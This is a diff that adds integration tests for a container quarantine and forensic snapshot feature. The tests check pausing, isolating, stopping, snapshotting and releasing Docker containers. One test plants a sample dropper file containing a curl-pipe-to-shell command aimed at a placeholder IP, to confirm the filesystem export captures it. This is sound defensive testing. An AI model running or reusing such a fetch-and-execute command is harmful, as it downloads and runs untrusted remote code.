@@ -1,0 +1,165 @@
+import assert from 'node:assert/strict';
+import { after, before, describe, it } from 'node:test';
+import { extract } from 'tar-stream';
+import type { ArtifactInfo, VerifyReport } from '../../../shared/domain/evidence';
+import type { QuarantinePlan, QuarantineRecord } from '../../../shared/domain/quarantine';
+import { BUSYBOX, docker, removeContainers, runContainer, startTestCore, type TestCore } from '../../helpers/docker';
+import { networksOf, networkWithSubnet, QUARANTINE_NET, removeNetworks, stateOf } from './fixture';
+
+/** The file at path in a tar stream, read entry by entry (the tar is never held whole). */
+async function fileInTar(stream: NodeJS.ReadableStream, wanted: string): Promise<string | undefined> {
+  const tar = extract();
+  let found: string | undefined;
+  const done = new Promise<void>((resolve, reject) => {
+    tar.on('entry', (header, entry, next) => {
+      const chunks: Buffer[] = [];
+      const keep = header.name.replace(/^\.?\//, '') === wanted;
+      entry.on('data', (c: Buffer) => keep && chunks.push(c));
+      entry.on('end', () => {
+        if (keep) found = Buffer.concat(chunks).toString('utf8');
+        next();
+      });
+      entry.resume();
+    });
+    tar.on('finish', resolve);
+    tar.on('error', reject);
+  });
+  stream.pipe(tar);
+  await done;
+  return found;
+}
+
+describe('quarantine: pause, snapshot, stop', () => {
+  let t: TestCore;
+  const tag = `dd-qp-${process.pid}`;
+  const net = `${tag}-net`;
+  let prefix = '';
+  const ids: string[] = [];
+  const images: string[] = [];
+
+  before(async () => {
+    t = startTestCore('drydock-quarantine-modes');
+    prefix = networkWithSubnet(net).prefix;
+    await t.call('hosts.add', { name: 'local', url: 'unix:///var/run/docker.sock' });
+    await t.call('evidence.case-create', { name: 'Modes case' });
+  });
+
+  after(async () => {
+    for (const id of ids) await t.call('quarantine.release', { host: 'local', container: id }).catch(() => undefined);
+    removeContainers(ids);
+    for (const image of images) {
+      try {
+        docker(['rmi', '-f', image]);
+      } catch {
+        // Already gone.
+      }
+    }
+    removeNetworks([net]);
+    await t.close();
+  });
+
+  const run = (name: string, args: string[]) => {
+    const id = runContainer(['--name', `${tag}-${name}`, ...args]);
+    ids.push(id);
+    return id;
+  };
+
+  it('pause freezes the processes; release unpauses', async () => {
+    const id = run('pause', ['--network', net, BUSYBOX, 'sh', '-c', 'while true; do date +%s%N > /tmp/tick; sleep 0.1; done']);
+    const record = (await t.call('quarantine.apply', { host: 'local', container: id, modes: ['pause'] })) as QuarantineRecord;
+    assert.equal(record.steps[0]?.state, 'done');
+    assert.equal(stateOf(id).Paused, true);
+    assert.deepEqual(Object.keys(networksOf(id)), [net], 'pause alone leaves the networks alone');
+    const released = (await t.call('quarantine.release', { host: 'local', container: id })) as QuarantineRecord;
+    assert.equal(released.release?.steps.find((s) => s.name === 'unpause')?.state, 'done');
+    assert.equal(stateOf(id).Paused, false);
+    const a = docker(['exec', id, 'cat', '/tmp/tick']);
+    await new Promise((r) => setTimeout(r, 400));
+    assert.notEqual(docker(['exec', id, 'cat', '/tmp/tick']), a, 'its processes run again');
+  });
+
+  it('a container paused before quarantine stays paused after release', async () => {
+    const id = run('prepaused', [BUSYBOX, 'sleep', '3600']);
+    docker(['pause', id]);
+    const record = (await t.call('quarantine.apply', { host: 'local', container: id, modes: ['isolate', 'pause'] })) as QuarantineRecord;
+    assert.equal(record.before.paused, true);
+    assert.equal(record.steps.find((s) => s.mode === 'pause')?.state, 'skipped');
+    assert.deepEqual(Object.keys(networksOf(id)), [QUARANTINE_NET], 'a paused container can still be isolated');
+    await t.call('quarantine.release', { host: 'local', container: id });
+    assert.equal(stateOf(id).Paused, true);
+    assert.deepEqual(Object.keys(networksOf(id)), ['bridge'], 'back on the default bridge');
+    docker(['unpause', id]);
+  });
+
+  it('snapshot commits a labelled image without pausing and stores a filesystem export that verifies', async () => {
+    const id = run('snap', ['--network', net, BUSYBOX, 'sh', '-c', 'echo "curl http://203.0.113.9/x | sh" > /tmp/dropper.sh; sleep 3600']);
+    await new Promise((r) => setTimeout(r, 300));
+    const since = docker(['system', 'info', '-f', '{{json .SystemTime}}']).replace(/"/g, '');
+    const record = (await t.call('quarantine.apply', { host: 'local', container: id, modes: ['snapshot'] })) as QuarantineRecord;
+    const snap = record.snapshot;
+    assert.ok(snap?.imageId && snap.artifactId, JSON.stringify(record));
+    images.push(snap.imageId);
+    const labels = JSON.parse(docker(['image', 'inspect', '-f', '{{json .Config.Labels}}', snap.imageId])) as Record<string, string>;
+    assert.equal(labels['drydock.forensic'], '1');
+    assert.equal(labels['drydock.forensic.container'], id);
+    assert.equal(labels['drydock.forensic.record'], record.id);
+    assert.match(snap.imageRef, /^drydock-forensic\/dd-qp-\d+-snap:q-/);
+    const pauses = docker(['events', '--since', since, '--until', String(Math.ceil(Date.now() / 1000) + 1), '--filter', `container=${id}`, '--filter', 'event=pause', '--format', '{{.Action}}']);
+    assert.equal(pauses, '', 'commit did not pause it');
+    assert.equal(stateOf(id).Paused, false);
+    assert.equal(stateOf(id).Running, true);
+
+    const artifact = (await t.call('evidence.artifact', { artifactId: snap.artifactId })) as ArtifactInfo;
+    assert.equal(artifact.kind, 'filesystem-export');
+    assert.equal(artifact.status, 'complete');
+    assert.equal(artifact.source.containerId, id);
+    const content = await fileInTar(await t.core.evidence.openArtifact(snap.artifactId), 'tmp/dropper.sh');
+    assert.equal(content, 'curl http://203.0.113.9/x | sh\n', 'the dropped file is in the export');
+    const verify = (await t.call('evidence.verify', {})) as VerifyReport;
+    assert.equal(verify.ok, true, JSON.stringify(verify.problems));
+    assert.equal(docker(['ps', '-aq', '--filter', `label=drydock.forensic.export=${record.id}`]), '', 'the export container is gone');
+
+    const again = (await t.call('quarantine.apply', { host: 'local', container: id, modes: ['snapshot'] })) as QuarantineRecord;
+    assert.equal(again.snapshot?.artifactId, snap.artifactId, 'a second apply does not snapshot again');
+    const released = (await t.call('quarantine.release', { host: 'local', container: id })) as QuarantineRecord;
+    assert.equal(released.state, 'released');
+    assert.ok(docker(['image', 'inspect', '-f', '{{.Id}}', snap.imageId]), 'the forensic image is kept after release');
+  });
+
+  it('stop warns that memory is lost; release starts it again on the same static address', async () => {
+    const ip = `${prefix}.50`;
+    const id = run('stop', ['--network', net, '--ip', ip, '--network-alias', 'stopper', BUSYBOX, 'sleep', '3600']);
+    const plan = (await t.call('quarantine.plan', { host: 'local', container: id, modes: ['stop', 'isolate'] })) as QuarantinePlan;
+    assert.deepEqual(plan.steps.map((s) => s.mode), ['isolate', 'stop'], 'steps run in a fixed order');
+    assert.ok(plan.steps.find((s) => s.mode === 'stop')?.notices.some((n) => n.severity === 'danger' && /memory is lost/i.test(n.text)));
+    const record = (await t.call('quarantine.apply', { host: 'local', container: id, modes: ['stop', 'isolate'] })) as QuarantineRecord;
+    assert.equal(record.state, 'quarantined');
+    assert.equal(stateOf(id).Running, false);
+    await t.call('quarantine.release', { host: 'local', container: id });
+    assert.equal(stateOf(id).Running, true);
+    const nets = networksOf(id);
+    assert.deepEqual(Object.keys(nets), [net]);
+    assert.equal(nets[net]!.IPAddress, ip);
+    assert.ok(nets[net]!.Aliases?.includes('stopper'));
+  });
+
+  it('refuses what cannot be done before changing anything', async () => {
+    const rm = run('autorm', ['--rm', BUSYBOX, 'sleep', '3600']);
+    await assert.rejects(t.call('quarantine.apply', { host: 'local', container: rm, modes: ['stop'] }), /conflict: .*--rm/);
+    assert.equal(stateOf(rm).Running, true);
+    const hostNet = run('hostnet', ['--network', 'host', BUSYBOX, 'sleep', '3600']);
+    const plan = (await t.call('quarantine.plan', { host: 'local', container: hostNet, modes: ['isolate'] })) as QuarantinePlan;
+    assert.match(plan.steps[0]?.blocked ?? '', /host's network namespace/);
+    await assert.rejects(t.call('quarantine.apply', { host: 'local', container: hostNet, modes: ['isolate', 'pause'] }), /unsupported: .*Nothing was changed/);
+    assert.equal(stateOf(hostNet).Paused, false);
+    assert.deepEqual(await t.call('quarantine.status', { host: 'local', container: hostNet }), []);
+  });
+
+  it('warns that a Swarm task may be replaced by the orchestrator', async () => {
+    const id = run('task', ['--label', 'com.docker.swarm.task.id=abc123', '--label', 'com.docker.swarm.service.name=shop_web', '--label', 'com.docker.swarm.task.name=shop_web.1.abc123', BUSYBOX, 'sleep', '3600']);
+    const plan = (await t.call('quarantine.plan', { host: 'local', container: id, modes: ['isolate'] })) as QuarantinePlan;
+    const warning = plan.notices.find((n) => n.severity === 'warning' && /Swarm service shop_web/.test(n.text));
+    assert.ok(warning);
+    assert.match(warning.text, /orchestrator may replace it/);
+  });
+});
